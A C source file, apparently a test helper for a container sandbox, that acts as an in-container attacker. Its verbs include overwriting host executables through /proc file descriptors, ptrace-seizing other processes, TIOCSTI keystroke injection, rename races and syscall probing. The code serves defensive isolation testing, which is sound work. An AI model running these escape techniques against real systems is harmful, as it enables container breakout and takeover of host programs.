// What an attacker in a container does: one static program, `probe VERB …`. Built by tests/attacks/probe.rs.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

// race COUNT A B: swaps A and B until it is killed; COUNT holds how often.
static int race(const char *count, const char *a, const char *b)
{
	int fd = open(count, O_RDWR | O_CREAT | O_TRUNC, 0666);
	for (unsigned long n = 0;; n++) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && n == 0) {
			perror("renameat2");
			return 1;
		}
		if (n % 100 == 0) {
			char text[32];
			int length = snprintf(text, sizeof text, "%lu\n", n);
			if (pwrite(fd, text, length, 0) != length)
				return 1;
		}
	}
}

static void say(int log, const char *word, const char *what)
{
	char line[4200];
	int length = snprintf(line, sizeof line, "%s %s\n", word, what);
	if (write(log, line, length) != length)
		_exit(1);
}

static int number(const char *name)
{
	return name[0] >= '1' && name[0] <= '9' ? atoi(name) : 0;
}

// steal LOG: holds every program that is not ours by descriptor, and tries to write to it for ever.
__attribute__((noreturn)) static void steal(const char *path)
{
	int log = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
	int held[64], count = 0, wrote = 0;
	static unsigned long long seen[64];
	// Ours: a process may have become one of them since its name was read.
	const char *own[] = {"/bin/busybox", "/probe"};
	for (unsigned i = 0; i < sizeof own / sizeof *own; i++) {
		struct stat stat_of;
		held[count] = -1;
		if (stat(own[i], &stat_of) == 0)
			seen[count++] = stat_of.st_ino;
	}
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));) {
			int pid = number(entry->d_name);
			if (pid == 0 || pid == getpid())
				continue;
			char name[64], target[4096];
			snprintf(name, sizeof name, "/proc/%d/exe", pid);
			int length = readlink(name, target, sizeof target - 1);
			if (length <= 0)
				continue;
			target[length] = 0;
			if (!strcmp(target, "/bin/busybox") || !strcmp(target, "/probe"))
				continue;
			int fd = open(name, O_PATH | O_CLOEXEC);
			struct stat stat;
			if (fd < 0 || fstat(fd, &stat) < 0)
				continue;
			int known = 0;
			for (int i = 0; i < count; i++)
				known |= seen[i] == stat.st_ino;
			if (known || count == 64) {
				close(fd);
				continue;
			}
			seen[count] = stat.st_ino;
			held[count++] = fd;
			say(log, "SEEN", target);
		}
		closedir(proc);
		for (int i = 0; i < count; i++) {
			char name[64];
			if (held[i] < 0)
				continue;
			snprintf(name, sizeof name, "/proc/self/fd/%d", held[i]);
			int fd = open(name, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (!wrote && write(fd, "#!/pwned\n", 9) == 9)
				say(log, "WROTE", name), wrote = 1;
			close(fd);
		}
	}
}

// watch LOG: what links of other processes lead to, each once; and which of them let themselves be traced.
__attribute__((noreturn)) static void watch(const char *path)
{
	static char known[4096][256];
	int count = 0;
	int log = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
	say(log, "BEGIN", "");
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));) {
			int pid = number(entry->d_name);
			if (pid == 0 || pid == getpid())
				continue;
			char names[40][40];
			int many = 0;
			snprintf(names[many++], 40, "/proc/%d/exe", pid);
			snprintf(names[many++], 40, "/proc/%d/cwd", pid);
			snprintf(names[many++], 40, "/proc/%d/root", pid);
			for (int fd = 0; fd < 24; fd++)
				snprintf(names[many++], 40, "/proc/%d/fd/%d", pid, fd);
			for (int i = 0; i < many; i++) {
				char target[256];
				int length = readlink(names[i], target, sizeof target - 1);
				if (length <= 0)
					continue;
				target[length] = 0;
				int old = 0;
				for (int k = 0; k < count && !old; k++)
					old = !strcmp(known[k], target);
				if (old || count == 4096)
					continue;
				strcpy(known[count++], target);
				say(log, "LINK", target);
			}
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
				char name[40], target[256];
				snprintf(name, sizeof name, "/proc/%d/exe", pid);
				int length = readlink(name, target, sizeof target - 1);
				if (length > 0) {
					target[length] = 0;
					if (strcmp(target, "/bin/busybox") && strcmp(target, "/probe"))
						say(log, "SEIZED", target);
				}
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				int status;
				if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
					ptrace(PTRACE_DETACH, pid, 0, 0);
			}
		}
		closedir(proc);
	}
}

// tiocsti TEXT: pushes keys into every terminal that is in reach.
static int tiocsti(const char *text)
{
	int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY), open("/dev/console", O_RDWR | O_NOCTTY)};
	for (unsigned i = 0; i < sizeof fds / sizeof *fds; i++) {
		int pushed = 0;
		for (const char *key = text; *key; key++)
			pushed += ioctl(fds[i], TIOCSTI, key) == 0;
		char shift = 6;
		int console = ioctl(fds[i], TIOCLINUX, &shift) >= 0;
		fprintf(stderr, "fd %d: pushed %d, console %d\n", fds[i], pushed, console);
	}
	return 0;
}

static const char *outcome(long result, int error)
{
	static char text[32];
	if (result >= 0)
		return "ok";
	snprintf(text, sizeof text, "%d", error);
	return text;
}

#ifdef __x86_64__
static long call_i386(long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(-1L), "D"(-1L)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}
#endif

// One call in a process of its own; "killed" or "hangs" when it gives no answer.
static void try(const char *table, long number, long a, long b, long c)
{
	int pipes[2];
	if (pipe(pipes) < 0)
		exit(1);
	fflush(stdout);
	int child = fork();
	if (child == 0) {
		for (int fd = 0; fd < 3; fd++)
			close(fd);
		setsid();
		signal(SIGSYS, SIG_DFL);
		alarm(1);
		long result;
		int error;
		if (table[0] == 'i') {
			result = call_i386(number, a, b, c);
			error = -result;
		} else {
			result = syscall(number, a, b, c, -1L, -1L, -1L);
			error = errno;
		}
		// After a clone there may be two of us.
		const char *text = outcome(result, error);
		syscall(SYS_write, pipes[1], text, strlen(text) + 1);
		syscall(SYS_exit_group, 0);
	}
	close(pipes[1]);
	char text[32] = "silent";
	if (read(pipes[0], text, sizeof text) <= 0)
		strcpy(text, "silent");
	close(pipes[0]);
	waitpid(child, NULL, 0);
	printf("%s %ld %s\n", table, number, text);
}

// syscalls: every number with arguments that no call takes.
static int syscalls(void)
{
	for (long number = 0; number < 520; number++) {
		switch (number) {
		// These would take effect whatever their arguments are, or never return: fork, vfork, exit, pause …
		case SYS_exit: case SYS_exit_group: case SYS_pause: case SYS_rt_sigreturn: case SYS_vhangup: case SYS_sync:
		case SYS_fork: case SYS_vfork: case SYS_rt_sigsuspend: case SYS_restart_syscall: case SYS_munlockall:
			continue;
		// Numbers between the two blocks are x32's.
		default:
			try("x86_64", number, -1, -1, -1);
		}
	}
	for (long number = 0; number < 480; number++)
		// i386: restart_syscall 0, exit 1, fork 2, pause 29, sync 36, vhangup 111, sigreturn 119, sigsuspend 72,
		// rt_sigreturn 173, rt_sigsuspend 179, vfork 190, exit_group 252.
		if (!strchr("\1\2\35\44\157\167\110\255\263\276\374", number) || number > 255)
			if (number != 0)
				try("i386", number, -1, -1, -1);
	for (long number = 0; number < 16; number++)
		if (number != 1 && number != 0)
			try("x32", 0x40000000L + number, -1, -1, -1);
	for (long family = 0; family < 47; family++) {
		int pipes[2];
		if (pipe(pipes) < 0)
			return 1;
		int fd = socket(family, SOCK_RAW, 0), raw = errno;
		int other = socket(family, SOCK_STREAM, 0), stream = errno;
		int third = socket(family, SOCK_SEQPACKET, 0);
		printf("socket %ld %s\n", family,
		       outcome(fd >= 0 || other >= 0 || third >= 0 ? 0 : -1, stream == ESOCKTNOSUPPORT ? raw : stream));
		close(fd), close(other), close(third), close(pipes[0]), close(pipes[1]);
	}
	return 0;
}

// who: real and effective uid, and whether programs may give more rights.
static int who(void)
{
	printf("%d %d %d\n", getuid(), geteuid(), prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	return 0;
}

// line MEGABYTES: a line without an end, as fast as it goes.
static int line(long megabytes)
{
	static char block[1 << 20];
	memset(block, 'x', sizeof block);
	for (long i = 0; i < megabytes; i++)
		for (size_t done = 0; done < sizeof block;) {
			ssize_t length = write(1, block + done, sizeof block - done);
			if (length <= 0)
				return 1;
			done += length;
		}
	return 0;
}

// writable DIR: every file below it that opens for writing; processes but our own left out.
static void writable(const char *dir)
{
	DIR *stream = opendir(dir);
	if (!stream)
		return;
	for (struct dirent *entry; (entry = readdir(stream));) {
		char path[4096];
		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, ".."))
			continue;
		if (!strcmp(dir, "/proc") && (number(entry->d_name) || !strcmp(entry->d_name, "thread-self")))
			continue;
		snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
		struct stat stat;
		if (lstat(path, &stat) < 0)
			continue;
		if (S_ISDIR(stat.st_mode)) {
			writable(path);
		} else if (S_ISREG(stat.st_mode) && stat.st_mode & 0222) {
			int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
			if (fd >= 0) {
				printf("%s\n", path);
				close(fd);
			}
		}
	}
	closedir(stream);
}

// measure FILE COMMAND …: runs it, and writes the most memory that it or what it waited for has had, in kB.
static int measure(const char *path, char **words)
{
	int child = fork();
	if (child == 0) {
		execv(words[0], words);
		_exit(127);
	}
	int status;
	struct rusage usage;
	if (wait4(child, &status, 0, &usage) != child)
		return 127;
	FILE *file = fopen(path, "w");
	if (!file)
		return 127;
	fprintf(file, "%ld\n", usage.ru_maxrss);
	fclose(file);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";
	if (argc == 5 && !strcmp(verb, "race"))
		return race(argv[2], argv[3], argv[4]);
	if (argc == 3 && !strcmp(verb, "steal"))
		steal(argv[2]);
	if (argc == 3 && !strcmp(verb, "watch"))
		watch(argv[2]);
	if (argc == 3 && !strcmp(verb, "tiocsti"))
		return tiocsti(argv[2]);
	if (argc == 2 && !strcmp(verb, "syscalls"))
		return syscalls();
	if (argc == 2 && !strcmp(verb, "who"))
		return who();
	if (argc == 3 && !strcmp(verb, "writable"))
		return writable(argv[2]), 0;
	if (argc == 3 && !strcmp(verb, "line"))
		return line(atol(argv[2]));
	if (argc > 3 && !strcmp(verb, "measure"))
		return measure(argv[2], argv + 3);
	fprintf(stderr, "probe: what?\n");
	return 2;
}
